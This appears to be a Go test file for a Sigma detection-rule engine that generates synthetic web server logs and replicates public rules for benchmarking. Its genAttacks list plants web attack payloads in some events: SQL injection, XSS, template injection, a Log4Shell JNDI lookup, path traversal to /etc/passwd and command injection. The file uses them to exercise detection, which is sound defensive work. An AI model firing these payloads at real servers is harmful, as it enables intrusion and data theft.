package sigma

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"go.yaml.in/yaml/v3"
)

// The workloads are the public ones of the comparison of engines: web access events made by a fixed generator, and rules of the
// public corpus, alone and replicated.

// corpus is where the part of the public rules lies that is given to developers.
const corpus = "../../../shared/data/sigma/rules"

type generator uint64

func (g *generator) next() uint64 {
	*g += 0x9E3779B97F4A7C15
	z := uint64(*g)
	z = (z ^ z>>30) * 0xBF58476D1CE4E5B9
	z = (z ^ z>>27) * 0x94D049BB133111EB
	return z ^ z>>31
}

func (g *generator) n(n int) int               { return int(g.next() % uint64(n)) }
func (g *generator) pick(list []string) string { return list[g.n(len(list))] }
func (g *generator) chars(n int, of string) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = of[g.n(len(of))]
	}
	return string(b)
}
func (g *generator) hex(n int) string { return g.chars(n, "0123456789abcdef") }
func (g *generator) dig(n int) string { return g.chars(n, "0123456789") }

var (
	genHosts   = strings.Fields("shop api www static m pay img auth")
	genDomains = strings.Fields("example-retail.cn contoso-cloud.com acme-iot.net fabrikam.org")
	genExts    = []string{".html", ".html", ".js", ".css", ".png", ".json", "", ""}
	genCTypes  = []string{"text/html; charset=utf-8", "application/json", "application/x-www-form-urlencoded", "image/png"}
	genRegions = strings.Fields("cn-hangzhou cn-shanghai cn-beijing ap-southeast-1")
	genCiphers = strings.Fields("ECDHE-RSA-AES128-GCM-SHA256 TLS_AES_256_GCM_SHA384 TLS_AES_128_GCM_SHA256")
	genOS      = strings.Fields("windows_10 mac_os_x ios linux android")
	genBrowser = strings.Fields("chrome safari firefox wechat")
	genDevices = strings.Fields("computer mobile tablet")
	genWords   = strings.Fields(`account address article banner basket brand browse button campaign cart category center change checkout client
		collect comment confirm content coupon detail device discount dispatch events export favorite feature filter follow gallery goods history
		image index inquiry invoice language layout library market member message mobile module network notice orders partner payment picture
		product profile promote quality recommend region report returns review search season service session shipping`)
	genAgents = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/#.0.#.# Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/#.#.# Safari/605.1.15",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/#.#.# Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (X11; Linux x86_64; rv:#.#.#) Gecko/20100101 Firefox/128.0",
		"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/#.#.# Mobile Safari/537.36",
		"MicroMessenger/#.#.# NetType/WIFI Language/zh_CN",
	}
	genAttacks = []struct{ what, text string }{
		{"q", "id=1%20UNION%20SELECT%20login,password%20FROM%20members"},
		{"q", "q=<script>fetch(1)</script>"},
		{"q", "name={{7*7}}"},
		{"q", "x=${jndi:ldap://203.0.113.9/a}"},
		{"ua", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
		{"ua", "Nikto/2.5.0"},
		{"q", "file=../../../../etc/passwd"},
		{"s", "/pwndrop/payload.bin"},
		{"q", "cmd=whoami"},
		{"s", "/.git/config"},
	}
)

// event returns the fields of event i, name after value after name. It must be called for 0, 1, 2, …
func (g *generator) event(i int) []string {
	addr := func() string { return fmt.Sprintf("10.%d.%d.%d", g.n(256), g.n(256), 1+g.n(254)) }
	ip := fmt.Sprintf("%d.%d.%d.%d", 11+g.n(180), g.n(256), g.n(256), 1+g.n(254))
	port, m := 1024+g.n(64000), g.n(100)
	host := g.pick(genHosts) + "." + g.pick(genDomains)
	stem := ""
	for range 2 + g.n(4) {
		stem += "/" + g.pick(genWords)
	}
	ext := g.pick(genExts)
	var params []string
	for range g.n(6) {
		w := g.pick(genWords)
		params = append(params, w+"="+g.hex(8+g.n(17)))
	}
	query := strings.Join(params, "&")
	ua := g.pick(genAgents)
	for _, v := range []int{8 + g.n(120), g.n(10), g.n(100)} {
		ua = strings.Replace(ua, "#", strconv.Itoa(v), 1)
	}
	method := "OPTIONS"
	switch {
	case m < 70:
		method = "GET"
	case m < 90:
		method = "POST"
	case m < 95:
		method = "HEAD"
	case m < 98:
		method = "PUT"
	}
	stem += ext
	attack := i%100 == 37
	if attack {
		method = "GET"
		switch a := genAttacks[i/100%10]; a.what {
		case "q":
			query = a.text
		case "ua":
			ua = a.text
		default:
			stem, ext = a.text, ""
		}
	}
	uri := stem
	if query != "" {
		uri += "?" + query
	} else {
		query = "-"
	}
	if ext = strings.TrimPrefix(ext, "."); ext == "" {
		ext = "-"
	}
	version := g.pick([]string{"HTTP/1.1", "HTTP/2.0"})
	referer := "-"
	if g.n(3) != 0 {
		referer = "https://" + host + "/" + g.pick(genWords) + "/" + g.pick(genWords)
	}
	cookie := "sid=" + g.hex(32) + "; lang=zh-CN; _ga=GA1.2." + g.dig(10) + "." + g.dig(10)
	user := "-"
	if g.n(10) == 0 {
		user = "user" + g.dig(5)
	}
	ctype := g.pick(genCTypes)
	status, s := "500", g.n(100)
	for _, c := range []struct {
		below int
		text  string
	}{{82, "200"}, {90, "304"}, {94, "302"}, {98, "404"}, {99, "403"}} {
		if s < c.below {
			status = c.text
			break
		}
	}
	if attack {
		status = "200"
	}
	scBytes, csBytes, taken := g.n(200000), 200+g.n(4000), g.n(1500)
	dst := addr()
	dstPort, region := g.pick([]string{"443", "80"}), g.pick(genRegions)
	instance, trace := g.hex(11), g.hex(32)
	cipher, tls := g.pick(genCiphers), g.pick([]string{"TLSv1.2", "TLSv1.3"})
	upstream := addr() + ":8080"
	upTime, reqLen, reqTime, sent := g.n(1000), 300+g.n(5000), g.n(1500), g.n(200000)
	os, browser, device := g.pick(genOS), g.pick(genBrowser), g.pick(genDevices)
	at := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(i) * 37 * time.Millisecond)
	return []string{
		"time", at.Format("2006-01-02T15:04:05.000Z"), "c-ip", ip, "c-port", strconv.Itoa(port), "cs-method", method, "cs-host", host,
		"cs-uri-stem", stem, "cs-uri-query", query, "c-uri", uri, "c-uri-extension", ext, "cs-version", version, "cs-user-agent", ua,
		"c-useragent", ua, "cs-referer", referer, "cs-cookie", cookie, "cs-username", user, "cs-content-type", ctype, "sc-status", status,
		"sc-bytes", strconv.Itoa(scBytes), "cs-bytes", strconv.Itoa(csBytes), "time-taken", strconv.Itoa(taken), "dst_ip", dst, "dst_port", dstPort,
		"x-forwarded-for", ip, "account_id", "1234567890123456", "region", region, "instance_id", "waf_v3prepaid_public_cn-" + instance,
		"matched_host", host, "request_traceid", trace, "ssl_cipher", cipher, "ssl_protocol", tls, "upstream_addr", upstream,
		"upstream_status", status, "upstream_response_time", fmt.Sprintf("0.%03d", upTime), "request_length", strconv.Itoa(reqLen),
		"request_time_msec", strconv.Itoa(reqTime), "body_bytes_sent", strconv.Itoa(sent), "waf_action", "pass", "ua_os", os, "ua_browser", browser,
		"ua_device_type", device,
	}
}

// webEvents returns the first n events. Every event has its bytes in one stretch of memory, as a decoder yields them.
func webEvents(n int) []bytesEvent {
	g := generator(42)
	out := make([]bytesEvent, n)
	for i := range out {
		fields := g.event(i)
		all := []byte(strings.Join(fields, ""))
		cut := func(s string) []byte {
			b := all[:len(s)]
			all = all[len(s):]
			return b
		}
		out[i] = make(bytesEvent, 0, len(fields)/2)
		for k := 0; k < len(fields); k += 2 {
			out[i] = append(out[i], Pair{Key: cut(fields[k]), Value: cut(fields[k+1])})
		}
	}
	return out
}

var tenThousand = sync.OnceValue(func() []bytesEvent { return webEvents(10_000) })

func TestWorkloadEvents(t *testing.T) {
	t.Parallel()
	want := map[int]string{
		1:      "a7e3dc29993e412f095bc22fc91eb7f004e58492fc4d43325f15cf9c7cc34feb",
		100:    "361f820bc6857ee656f28d12a2ba9d5ed2fc7bcaf125351ee3207e48e948b5d0",
		10_000: "98456cbb6b66990e7304cfa77ce9130f1d8590a147058eb5feaf42de14c211c8",
	}
	h := sha256.New()
	for i, e := range tenThousand() {
		for _, p := range e {
			fmt.Fprintf(h, "%s=%s\n", p.Key, p.Value)
		}
		h.Write([]byte("\n"))
		if w := want[i+1]; w != "" && hex.EncodeToString(h.Sum(nil)) != w {
			t.Errorf("the first %d events differ from the published ones", i+1)
		}
	}
}

// ruleFile is a file of a rule with its path below the corpus.
type ruleFile struct {
	path string
	data []byte
}

// ruleFiles returns the rule files below a folder in the order of their paths.
func ruleFiles(t testing.TB, dir string) []ruleFile {
	t.Helper()
	if _, err := os.Stat(dir); err != nil && dir == corpus {
		t.Skipf("the public rules lie beside the repository and are not here: what needs them does not run (%v)", err)
	}
	var out []ruleFile
	err := fs.WalkDir(os.DirFS(dir), ".", func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || filepath.Ext(path) != ".yml" && filepath.Ext(path) != ".yaml" {
			return err
		}
		if data, err := os.ReadFile(filepath.Join(dir, path)); err == nil || dir == corpus {
			out = append(out, ruleFile{path, data})
			return err
		}
		return nil // a link into nothing in a folder of somebody
	})
	if err != nil {
		t.Fatalf("read the rules below %s: %v", dir, err)
	}
	slices.SortFunc(out, func(a, b ruleFile) int { return strings.Compare(a.path, b.path) })
	return out
}

// webRules keeps the rules for web servers and proxies.
func webRules(files []ruleFile) []ruleFile {
	return slices.DeleteFunc(slices.Clone(files), func(f ruleFile) bool {
		var r struct{ LogSource struct{ Category string } }
		if err := yaml.Unmarshal(f.data, &r); err != nil {
			return true
		}
		return r.LogSource.Category != "webserver" && r.LogSource.Category != "proxy"
	})
}

// replicated returns n rules made of the given ones: fewer are chosen evenly, more are copies that never match the events.
func replicated(t testing.TB, from []ruleFile, n int) []ruleFile {
	t.Helper()
	out := make([]ruleFile, 0, n)
	for j := range n {
		switch k := j / len(from); {
		case n <= len(from):
			out = append(out, from[j*len(from)/n])
		case k == 0:
			out = append(out, from[j])
		default:
			f := from[j%len(from)]
			out = append(out, ruleFile{fmt.Sprintf("%s#%d", f.path, k), tagged(t, f.data, k)})
		}
	}
	return out
}

func copyTag(k int) string {
	v := uint32(k) * 2654435761 % (36 * 36 * 36 * 36)
	b := []byte("x0000")
	for i := 4; i > 0; i-- {
		b[i] = "0123456789abcdefghijklmnopqrstuvwxyz"[v%36]
		v /= 36
	}
	return string(b)
}

// tagged returns copy k of a rule.
func tagged(t testing.TB, data []byte, k int) []byte {
	t.Helper()
	var doc yaml.Node
	if err := yaml.Unmarshal(data, &doc); err != nil {
		t.Fatal(err)
	}
	root := doc.Content[0]
	for i := 0; i < len(root.Content); i += 2 {
		v := root.Content[i+1]
		switch root.Content[i].Value {
		case "title":
			v.Value, v.Tag = v.Value+fmt.Sprintf(" #%d", k), "!!str"
		case "id":
			if rest := v.Value; len(rest) == 36 {
				v.Value = fmt.Sprintf("%08x", k) + rest[8:]
			} else { // no UUID, as rules of one's own may have
				v.Value, v.Tag, v.Style = fmt.Sprintf("%08x-%s", k, rest), "!!str", yaml.DoubleQuotedStyle
			}
		case "detection":
			for d := 0; d < len(v.Content); d += 2 {
				if v.Content[d].Value != "condition" {
					tagValues(v.Content[d+1], "", copyTag(k))
				}
			}
		}
	}
	out, err := yaml.Marshal(&doc)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func tagValues(n *yaml.Node, key, tag string) {
	switch n.Kind {
	case yaml.MappingNode:
		for i := 0; i < len(n.Content); i += 2 {
			tagValues(n.Content[i+1], n.Content[i].Value, tag)
		}
	case yaml.SequenceNode:
		for _, c := range n.Content {
			tagValues(c, key, tag)
		}
	case yaml.ScalarNode:
		words := strings.Split(key, "|")
		if field := words[0]; field == "cs-method" || field == "sc-status" || field == "dst_ip" || n.ShortTag() != "!!str" || n.Value == "" {
			return
		}
		n.Style = yaml.DoubleQuotedStyle
		if slices.Contains(words, "re") {
			n.Value = "(?:" + n.Value + ")" + tag
			return
		}
		n.Value = insertTag(n.Value, tag)
	}
}

func insertTag(s, tag string) string {
	run := 0
	for i := range len(s) {
		if c := s[i]; '0' <= c && c <= '9' || 'a' <= c|0x20 && c|0x20 <= 'z' {
			run++
			continue
		}
		if run >= 3 {
			return s[:i] + tag + s[i:]
		}
		run = 0
	}
	return s + tag
}

func TestCopyTags(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{"={{": "={{xdrqp", "/Basic/Command/": "/Basicxdrqp/Command/"} {
		if got := insertTag(in, copyTag(1)); got != want {
			t.Errorf("%q becomes %q, want %q", in, got, want)
		}
	}
	if copyTag(2) != "xnhia" {
		t.Error(copyTag(2))
	}
}

// compileFiles compiles files for events of every source.
func compileFiles(t testing.TB, files []ruleFile) (*Set, []Problem) {
	t.Helper()
	var docs []Document
	var problems []Problem
	for _, f := range files {
		more, wrong := Parse(f.path, f.data)
		docs, problems = append(docs, more...), append(problems, wrong...)
	}
	set, wrong := Compile(docs, Options{AnySource: true})
	return set, append(problems, wrong...)
}
